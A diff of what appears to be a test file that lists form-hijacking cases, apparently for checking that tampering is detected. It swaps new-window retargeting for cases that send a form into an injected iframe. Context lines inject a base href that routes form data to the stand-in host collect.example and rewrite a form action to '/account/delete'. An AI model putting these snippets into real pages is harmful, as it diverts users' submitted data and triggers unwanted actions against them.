@@ -149,11 +149,18 @@ const moved: Named = [
     `document.head.insertAdjacentHTML('afterbegin', '<base href="https://collect.example/">'); ${form('profile', "form.setAttribute('action', 'form');")}`,
   ],
   ['to another method', 'feedback', form('feedback', "form.method = 'post';")],
-  ['to another window', 'profile', form('profile', "form.target = '_blank';")],
   [
-    'to another window of the base',
+    'to a frame of the page',
     'profile',
-    `document.head.insertAdjacentHTML('afterbegin', '<base target="_blank">');`,
+    form('profile', `form.insertAdjacentHTML('afterend', '<iframe name="box"></iframe>'); form.target = 'box';`),
+  ],
+  [
+    'to a frame by the base',
+    'profile',
+    form(
+      'profile',
+      `form.insertAdjacentHTML('afterend', '<iframe name="box"></iframe>'); document.head.insertAdjacentHTML('afterbegin', '<base target="box">');`,
+    ),
   ],
   ['to an ending', 'profile', form('profile', "form.action = '/account/delete';")],
 ];
